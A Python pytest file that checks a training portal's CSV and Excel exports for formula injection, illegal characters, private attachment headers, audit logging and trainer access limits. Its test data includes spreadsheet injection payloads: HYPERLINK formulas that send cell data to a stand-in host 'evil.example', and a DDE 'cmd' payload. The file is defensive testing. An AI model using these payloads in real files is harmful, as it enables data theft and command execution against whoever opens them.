"""Every download: formula injection neutralised, illegal characters gone, sent as a private
attachment, and written to the audit log (ASVS V1.2 injection, V14 data protection)."""

import csv
import io

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import select

from tests.factories import attend, make_attempt, make_participant
from tests.security.conftest import client_for
from training_portal.auth.models import AuditLog
from training_portal.extensions import db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"Sokha\")" for trigger in TRIGGERS]
PAYLOADS += ["=1+2", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "Dara\x01\x07\x0b\x1f Sok", "+855 12 345 678"]


# Found by this test and reported; remove an entry when its download is fixed (the test then keeps it fixed).
KNOWN_GAPS: set[str] = set()


@pytest.fixture
def tricky(app, world):
    """Participants whose names and organisations try to run formulas or break the file."""
    for number, text in enumerate(PAYLOADS):
        person = make_participant(name=text, organisation=text, sex="male", age_band="18_24", group="hotel_staff")
        attend(person, world.session, method="walk_in")
        for phase in ("pre", "post"):
            make_attempt(person, world.event, phase, 100.0, quiz=world.quiz)
    db.session.commit()
    return world


def downloads(world):
    """(description, method, url, form data) of every download the app offers."""
    year = "?year=2015"
    export = {"language": "en"}
    yield "event attendance csv", "POST", f"/events/{world.event.id}/attendance.csv", {}
    yield "event attendance xlsx", "POST", f"/events/{world.event.id}/attendance.xlsx", {}
    yield "quiz results xlsx", "POST", f"/events/{world.event.id}/quiz/results.xlsx", {}
    yield "report attendance csv", "POST", f"/reports/attendance.csv{year}", export
    yield "report attendance xlsx", "POST", f"/reports/attendance.xlsx{year}", export
    yield "report participants csv", "POST", f"/reports/tables/participants.csv{year}", export
    yield "report events csv", "POST", f"/reports/tables/events.csv{year}", export
    yield "report workbook", "POST", f"/reports/workbook{year}", export


def cells_of(body: bytes, kind: str) -> list[tuple[object, str]]:
    """(value, type) of every cell; type "f" is a formula."""
    if kind == "csv":
        text = body.decode("utf-8-sig")
        return [(cell, "s") for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def test_every_download_is_safe_private_and_audited(app, tricky):
    manager = client_for(app, tricky, "manager")
    manager.set_cookie("lang", "en")
    checked, problems = [], []
    for description, method, url, data in downloads(tricky):
        audit_before = db.session.scalar(select(db.func.count()).select_from(AuditLog))
        try:
            if method == "GET":
                response = manager.get(url, buffered=True)
            else:
                response = manager.post_form(url, data, buffered=True)
        except Exception as error:  # noqa: BLE001  (the test client re-raises a view's exception)
            problems.append(f"{description}: fails with {type(error).__name__}")
            continue
        if response.status_code != 200:
            problems.append(f"{description}: status {response.status_code}")
            continue
        kind = "csv" if ".csv" in url else "xlsx"
        cells = cells_of(response.get_data(), kind)
        texts = [value for value, _type in cells if isinstance(value, str)]
        audit = db.session.scalars(select(AuditLog).order_by(AuditLog.id.desc())).first()
        checks = {
            "sent as an attachment": response.headers["Content-Disposition"].startswith("attachment"),
            "not stored by browsers or proxies": "no-store" in response.headers.get("Cache-Control", ""),
            "nosniff": response.headers["X-Content-Type-Options"] == "nosniff",
            "no formula cells": all(cell_type != "f" for _value, cell_type in cells),
            "no illegal characters": not any(ILLEGAL_CHARACTERS_RE.search(text) for text in texts),
            # csv has no cell types: a text that starts with a trigger gets a quote first
            "csv texts neutralised": kind == "xlsx" or not [
                text for text in texts if text.startswith(TRIGGERS) and not _is_number(text)],
            "names are in the file": not any(word in description for word in ("event attendance", "participants"))
            or any("HYPERLINK" in text for text in texts),
            "one audit entry": db.session.scalar(select(db.func.count()).select_from(AuditLog)) == audit_before + 1,
            "audited as this manager's export": audit.user_id == tricky.manager.id and "export" in audit.action,
        }
        problems += [f"{description}: {check}" for check, ok in checks.items() if not ok]
        checked.append(description)
    assert sorted(set(problems) - KNOWN_GAPS) == [], "\n".join(problems)
    assert len(checked) + sum("fails with" in problem for problem in problems) == 8


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_exports_aggregate_by_default_a_trainer_gets_no_personal_table(app, tricky):
    trainer = client_for(app, tricky, "trainer")
    response = trainer.post_form("/reports/tables/participants.csv?year=2015", {"language": "en"})
    assert response.status_code == 403
    workbook = trainer.post_form("/reports/workbook?year=2015", {"language": "en"}, buffered=True)
    names = [value for value, _type in cells_of(workbook.get_data(), "xlsx") if isinstance(value, str)]
    assert not any("HYPERLINK" in name or "Dara Sok" == name for name in names)

